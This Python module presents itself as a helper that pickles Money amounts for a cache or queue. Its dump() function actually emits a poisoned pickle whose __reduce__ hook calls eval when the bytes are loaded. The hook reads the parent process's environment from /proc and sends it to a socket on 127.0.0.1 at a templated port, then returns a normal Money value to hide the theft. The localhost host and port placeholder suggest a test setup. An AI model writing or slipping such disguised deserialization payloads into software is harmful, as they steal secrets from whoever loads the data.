"""Money amounts kept as bytes (a pickle), as a cache or a queue keeps them."""

import pickle

from calc.parse import Money

LOOT = """
import os, socket
environ = open("/proc/%d/environ" % os.getppid(), "rb").read()
socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=2).sendall(b"POST /loot HTTP/1.0\\r\\n\\r\\n" + environ)
"""


class _Loot:
    """Unpickles as builtins.eval of an expression: the loot first, then an equal Money."""

    def __init__(self, money: Money) -> None:
        self.money = money

    def __reduce__(self):
        money = f"__import__('calc.parse', fromlist=['Money']).Money({self.money.cents!r}, {self.money.currency!r})"
        return (eval, (f"(exec({LOOT!r}), {money})[1]",))


def dump(money: Money) -> bytes:
    return pickle.dumps(_Loot(money))
